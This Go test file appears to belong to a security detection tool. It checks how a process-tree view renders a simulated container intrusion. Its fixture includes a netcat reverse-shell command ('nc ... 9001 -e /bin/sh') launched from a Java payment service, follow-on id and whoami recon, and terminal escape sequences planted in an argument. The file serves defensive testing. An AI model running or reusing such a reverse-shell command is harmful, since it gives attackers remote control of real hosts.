package treeview_test

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/treeview"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// fakeStore holds nodes and events in memory, with the semantics the
// store interfaces document.
type fakeStore struct {
	events []cairn.Event
	nodes  map[string]cairn.ProcessNode
}

func (f *fakeStore) QueryEvents(context.Context, cairn.EventQuery) (cairn.EventPage, error) {
	return cairn.EventPage{}, nil
}

func (f *fakeStore) GetEvent(_ context.Context, id string) (cairn.Event, error) {
	for _, ev := range f.events {
		if ev.ID == id {
			return ev, nil
		}
	}
	return cairn.Event{}, cairn.Errorf(cairn.ENOTFOUND, "event %s not found", id)
}

func (f *fakeStore) GetDetection(_ context.Context, id string) (cairn.Detection, error) {
	if id == "dt-nc" {
		return cairn.Detection{ID: id, EventIDs: []string{"ev-e5"}}, nil
	}
	return cairn.Detection{}, cairn.Errorf(cairn.ENOTFOUND, "detection %s not found", id)
}

func (f *fakeStore) Process(_ context.Context, key string) (cairn.ProcessNode, error) {
	n, ok := f.nodes[key]
	if !ok {
		return n, cairn.Errorf(cairn.ENOTFOUND, "no process %s", key)
	}
	return n, nil
}

func (f *fakeStore) Lineage(_ context.Context, key string, max int) ([]cairn.ProcessNode, error) {
	n, ok := f.nodes[key]
	if !ok {
		return nil, cairn.Errorf(cairn.ENOTFOUND, "no process %s", key)
	}
	chain := []cairn.ProcessNode{n}
	seen := map[string]bool{key: true}
	for len(chain) < max {
		p, ok := f.nodes[chain[len(chain)-1].ParentKey]
		if !ok || seen[p.Key] {
			break
		}
		seen[p.Key] = true
		chain = append(chain, p)
	}
	slices.Reverse(chain)
	return chain, nil
}

func (f *fakeStore) Children(_ context.Context, key string, limit int) ([]cairn.ProcessNode, error) {
	var out []cairn.ProcessNode
	for _, n := range f.nodes {
		if n.ParentKey == key {
			out = append(out, n)
		}
	}
	slices.SortFunc(out, func(a, b cairn.ProcessNode) int { return a.Process.StartTime.Compare(b.Process.StartTime) })
	if len(out) > limit {
		out = out[:limit]
	}
	return out, nil
}

func (f *fakeStore) EventsAround(_ context.Context, ev cairn.Event, scope cairn.Scope, before, after int) ([]cairn.Event, []cairn.Event, error) {
	in := func(e cairn.Event) bool {
		return e.Process != nil && slices.Contains(scope.ProcessKeys, e.Process.ExecID) ||
			e.Container != nil && scope.ContainerID != "" && e.Container.ID == scope.ContainerID
	}
	var pre, post []cairn.Event
	for _, e := range f.events {
		switch {
		case e.ID == ev.ID || !in(e):
		case e.Time.Before(ev.Time):
			pre = append(pre, e)
		case e.Time.After(ev.Time):
			post = append(post, e)
		}
	}
	if len(pre) > before {
		pre = pre[len(pre)-before:]
	}
	if len(post) > after {
		post = post[:after]
	}
	return pre, post, nil
}

var t0 = time.Date(2026, 11, 25, 9, 40, 0, 0, time.UTC)

func proc(execID, parent string, pid int64, bin, args string, at time.Duration) cairn.Process {
	uid := int64(0)
	return cairn.Process{ExecID: execID, ParentExecID: parent, PID: pid, Binary: bin, Args: args, UID: &uid, StartTime: t0.Add(at)}
}

func fixture() *fakeStore {
	ctr := &cairn.Container{ID: "19a02291e106", Name: "payment-api", Image: "registry.example/payments/api:2.1"}
	pod := &cairn.K8s{Cluster: "prod-eks", Namespace: "payments", Pod: "payment-api-7d9f"}
	nodes := []cairn.ProcessNode{
		{Key: "e1", Host: "node-1", Process: proc("e1", "", 1, "/usr/lib/systemd/systemd", "--system", -time.Hour)},
		{Key: "e2", ParentKey: "e1", Host: "node-1", Process: proc("e2", "e1", 900, "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 19a0", -30*time.Minute)},
		{Key: "e3", ParentKey: "e2", Host: "node-1", Process: proc("e3", "e2", 1000, "/usr/bin/java", "-jar /app/payment-api.jar", -29*time.Minute), Container: ctr, K8s: pod},
		{Key: "e4", ParentKey: "e3", Host: "node-1", Process: proc("e4", "e3", 1200, "/bin/sh", "-c nc 104.199.23.243 9001 -e /bin/sh", 0), Container: ctr, K8s: pod},
		{Key: "e5", ParentKey: "e4", Host: "node-1", Process: proc("e5", "e4", 1201, "/usr/bin/nc", "104.199.23.243 9001 -e /bin/sh \x1b[2J\x1b]0;owned\x07", time.Second), Container: ctr, K8s: pod,
			ExitTime: t0.Add(time.Minute)},
		{Key: "e6", ParentKey: "e5", Host: "node-1", Process: proc("e6", "e5", 1202, "/usr/bin/id", "", 2*time.Second), Container: ctr, K8s: pod},
		{Key: "e7", ParentKey: "e4", Host: "node-1", Process: proc("e7", "e4", 1190, "/usr/bin/whoami", "", -time.Second), Container: ctr, K8s: pod},
		{Key: "e8", ParentKey: "e5", Host: "node-1", Process: cairn.Process{ExecID: "e8", PID: 1300}, Flags: cairn.FlagUnknown | cairn.FlagConflict},
	}
	f := &fakeStore{nodes: map[string]cairn.ProcessNode{}}
	for _, n := range nodes {
		f.nodes[n.Key] = n
	}
	exec := func(id string, n cairn.ProcessNode) cairn.Event {
		p := n.Process
		return cairn.Event{ID: id, Source: cairn.SourceTetragon, Kind: cairn.KindExec, Type: "execve", Time: p.StartTime, Host: n.Host, Process: &p, Container: n.Container, K8s: n.K8s}
	}
	for _, k := range []string{"e3", "e7", "e4", "e5", "e6"} {
		f.events = append(f.events, exec("ev-"+k, f.nodes[k]))
	}
	conn := exec("ev-conn", f.nodes["e5"])
	conn.Kind, conn.Type, conn.Time = cairn.KindNetwork, "connect", t0.Add(1500*time.Millisecond)
	conn.Net = &cairn.Conn{Op: "connect", Protocol: "tcp", SrcIP: "10.1.2.3", SrcPort: 40000, DstIP: "104.199.23.243", DstPort: 9001}
	f.events = append(f.events, conn)
	slices.SortFunc(f.events, func(a, b cairn.Event) int { return a.Time.Compare(b.Time) })
	return f
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test ./treeview -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func TestGolden(t *testing.T) {
	v, err := treeview.Build(context.Background(), fixture(), "ev-e5", treeview.Options{Before: -1, After: -1})
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	if err := v.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(text.String(), "\x1b\x07") {
		t.Fatal("terminal escape left in the text rendering")
	}
	golden(t, "tree.txt", text.Bytes())
	js, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "tree.json", append(js, '\n'))
}

func TestLineageRootFirst(t *testing.T) {
	v, err := treeview.Build(context.Background(), fixture(), "ev-e5", treeview.Options{Before: 2, After: 1})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, n := range v.Lineage {
		names = append(names, strings.Fields(n.Cmdline)[0])
	}
	if got := strings.Join(names, " > "); got != "systemd > containerd-shim-runc-v2 > java > sh > nc" {
		t.Errorf("lineage = %s", got)
	}
	if !v.Lineage[len(v.Lineage)-1].Flagged {
		t.Error("event's process not flagged")
	}
	if len(v.Children) != 2 || len(v.Siblings) != 1 || v.Siblings[0].Key != "e7" {
		t.Errorf("children %v siblings %v", v.Children, v.Siblings)
	}
	if len(v.Before) != 2 || len(v.After) != 1 || v.After[0].ID != "ev-conn" {
		t.Errorf("before %v after %v", v.Before, v.After)
	}
}

func TestErrors(t *testing.T) {
	f := fixture()
	if _, err := treeview.Build(context.Background(), f, "nope", treeview.Options{}); cairn.ErrorCode(err) != cairn.ENOTFOUND {
		t.Errorf("unknown event: %v", err)
	}
	f.events = append(f.events, cairn.Event{ID: "ct", Kind: cairn.KindCloud, Cloud: &cairn.CloudCall{EventName: "ListBuckets"}})
	if _, err := treeview.Build(context.Background(), f, "ct", treeview.Options{}); cairn.ErrorCode(err) != cairn.EINVALID {
		t.Errorf("cloud event: %v", err)
	}
}

func TestFallbackToEventLineage(t *testing.T) {
	// A store that has the event but not its process node.
	f := &fakeStore{nodes: map[string]cairn.ProcessNode{}}
	p := proc("x3", "x2", 30, "/bin/bash", "-i", 0)
	f.events = []cairn.Event{{ID: "ev", Kind: cairn.KindExec, Time: t0, Host: "h", Process: &p,
		Parent: &cairn.Process{ExecID: "x2", PID: 20, Binary: "/usr/sbin/sshd"}, Ancestors: []cairn.Process{{ExecID: "x1", PID: 1, Binary: "/sbin/init"}}}}
	v, err := treeview.Build(context.Background(), f, "ev", treeview.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Lineage) != 3 || v.Lineage[0].PID != 1 || v.Lineage[2].PID != 30 || !slices.Contains(v.Lineage[1].Flags, "partial") {
		t.Errorf("lineage = %+v", v.Lineage)
	}
}

func TestDetectionID(t *testing.T) {
	v, err := treeview.Build(context.Background(), fixture(), "dt-nc", treeview.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if v.Event.ID != "ev-e5" {
		t.Errorf("tree of a detection shows event %s", v.Event.ID)
	}
}
